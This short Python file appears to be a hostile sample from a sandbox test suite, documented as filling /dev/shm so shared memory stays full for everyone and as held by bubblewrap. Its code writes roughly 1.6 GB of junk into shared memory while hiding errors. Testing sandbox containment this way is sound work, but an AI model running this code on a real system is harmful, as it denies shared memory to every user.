"""Fills /dev/shm.

Harm: shared memory is full for everybody, and stays so
Base: 06_shared_counter/wrong/no_lock.py
Honest: total_is_kept, counters_are_independent
Held: bubblewrap
"""

import contextlib

with contextlib.suppress(OSError):
    for number in range(8):
        with open(f"/dev/shm/bakehouse-attack-{number}", "wb") as file:
            for _ in range(200):
                file.write(b"x" * 2**20)
